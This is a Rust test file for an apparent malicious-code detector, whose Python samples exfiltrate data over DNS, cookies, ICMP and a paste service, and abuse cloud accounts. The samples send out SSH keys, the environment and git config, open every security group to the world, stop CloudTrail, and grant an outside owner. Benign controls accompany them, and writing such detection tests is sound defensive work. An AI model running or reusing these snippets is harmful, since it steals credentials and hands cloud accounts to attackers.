//! Behaviour tests for the sixth round's families (covert channels, cloud
//! accounts abused, ML artifacts poisoned, logic bombs, payment details
//! tampered with, mail hijacked), spelled unlike the corpus, each with a
//! benign control.

use super::behaviour_tests::{finding, rules, run};
use super::Verdict;

#[test]
fn covert_channels_carry_the_machines_data() {
    // A git config read, hex-encoded and looked up label by label.
    let dns = "import socket, pathlib\nraw = pathlib.Path('~/.gitconfig').expanduser().read_bytes().hex()\nfor i in range(0, len(raw), 60):\n    socket.getaddrinfo(raw[i:i + 60] + '.q.example.net', 53)\n";
    let a = run(dns);
    let f = finding(&a, "MB948");
    assert_eq!(f.line, 4);
    assert!(f.detail.contains("line 2"), "{}", f.detail);
    assert_eq!(a.verdict, Verdict::Blocked);
    // The environment, base64'd into a cookie of an innocent GET.
    let cookie = "import base64, os, requests\nblob = base64.b64encode(repr(dict(os.environ)).encode()).decode()\nrequests.get('https://cdn.example.org/p.gif', cookies={'sid': blob})\n";
    assert!(
        rules(&run(cookie)).contains(&"MB948"),
        "{:?}",
        run(cookie).findings
    );
    // A key file in the payload of scapy pings.
    let icmp = "from scapy.all import IP, ICMP, Raw, send\ndata = open('/root/.ssh/id_rsa', 'rb').read()\nfor i in range(0, len(data), 32):\n    send(IP(dst='198.51.100.9') / ICMP() / Raw(load=data[i:i + 32]))\n";
    assert!(
        rules(&run(icmp)).contains(&"MB948"),
        "{:?}",
        run(icmp).findings
    );
    // Environment values posted to a paste service.
    let paste = "import os, requests\nvals = {k: v for k, v in os.environ.items()}\nrequests.post('https://paste.ee/api/v1/pastes', json={'sections': [{'contents': str(vals)}]})\n";
    assert!(
        rules(&run(paste)).contains(&"MB948"),
        "{:?}",
        run(paste).findings
    );
}

#[test]
fn covert_channel_look_alikes_stay_quiet() {
    // Names from a file resolved as they are: a DNS check, not a tunnel.
    let resolve = "import socket, sys\nfor host in open(sys.argv[1]):\n    print(host.strip(), socket.gethostbyname(host.strip()))\n";
    assert!(
        !rules(&run(resolve)).contains(&"MB948"),
        "{:?}",
        run(resolve).findings
    );
    // A token from the environment in Authorization, a file's digest in a
    // checksum header, an upload of a file's contents as the body.
    let api = "import base64, hashlib, os, requests\nbody = open('report.pdf', 'rb').read()\nsig = base64.b64encode(hashlib.sha256(body).digest()).decode()\nrequests.put('https://files.example.org/r.pdf', data=body, headers={'Authorization': 'Bearer ' + os.environ['TOKEN'], 'X-Checksum-Sha256': sig})\n";
    assert!(run(api).verdict < Verdict::High, "{:?}", run(api).findings);
    // A fixed notice in an image's pixels, the image uploaded.
    let mark = "import requests\nfrom PIL import Image\nimg = Image.open('a.png')\npx = img.load()\nfor i, bit in enumerate(format(ord(c), '08b') for c in 'CC-BY'):\n    px[i, 0] = (int(bit[0]), 0, 0)\nimg.save('b.png')\nrequests.post('https://cms.example.org/media', files={'f': open('b.png', 'rb')})\n";
    assert!(
        run(mark).verdict < Verdict::High,
        "{:?}",
        run(mark).findings
    );
}

#[test]
fn cloud_accounts_opened_to_others() {
    // Every security group opened to the world: a listing, in a loop.
    let open = "import boto3\nec2 = boto3.client('ec2')\nfor g in ec2.describe_security_groups()['SecurityGroups']:\n    ec2.authorize_security_group_ingress(GroupId=g['GroupId'], IpProtocol='-1', CidrIp='0.0.0.0/0')\n";
    let a = run(open);
    let f = finding(&a, "MB949");
    assert_eq!(f.line, 4);
    assert_eq!(a.verdict, Verdict::Blocked);
    // One bucket made public: HIGH, a change an administrator may mean.
    let one = "import boto3\nboto3.client('s3').put_bucket_acl(Bucket='site-assets', ACL='public-read')\n";
    let a = run(one);
    assert!(rules(&a).contains(&"MB221"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::High);
    // Audit logging switched off through the CLI.
    let trail = "import subprocess\nsubprocess.run(['aws', 'cloudtrail', 'stop-logging', '--name', 'org-trail'])\n";
    assert!(
        rules(&run(trail)).contains(&"MB949"),
        "{:?}",
        run(trail).findings
    );
    // An owner binding for an outside account, from the host's gcloud files.
    let owner = "import os, subprocess\ncreds = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')\nos.environ['GOOGLE_APPLICATION_CREDENTIALS'] = creds\nsubprocess.run('gcloud projects add-iam-policy-binding prod --member=user:x@example.net --role=roles/owner', shell=True)\n";
    assert!(
        rules(&run(owner)).contains(&"MB949"),
        "{:?}",
        run(owner).findings
    );
}

#[test]
fn cloud_automation_of_ones_own() {
    // A new key for the caller itself, an ingress rule for one office
    // network, tags and listings.
    let own = "import boto3\niam = boto3.client('iam')\nme = iam.get_user()['User']['UserName']\nkey = iam.create_access_key(UserName=me)\nec2 = boto3.client('ec2')\nec2.authorize_security_group_ingress(GroupId='sg-1', IpProtocol='tcp', FromPort=443, ToPort=443, CidrIp='198.51.100.0/24')\nfor r in ec2.describe_instances()['Reservations']:\n    ec2.create_tags(Resources=[i['InstanceId'] for i in r['Instances']], Tags=[{'Key': 'team', 'Value': 'data'}])\n";
    let a = run(own);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}
